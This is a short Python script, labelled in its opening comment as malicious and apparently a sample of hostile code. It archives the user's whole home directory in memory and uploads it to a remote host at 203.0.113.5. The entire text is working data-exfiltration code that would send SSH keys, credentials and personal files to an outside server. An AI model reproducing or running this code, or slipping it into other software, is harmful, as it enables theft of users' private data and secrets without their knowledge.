# Malicious: tars the whole home directory in memory and uploads it to a remote host.
import io
import os
import tarfile
import urllib.request

buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
    tar.add(os.path.expanduser("~"), arcname="home")
urllib.request.urlopen("http://203.0.113.5:8080/upload", data=buffer.getvalue())
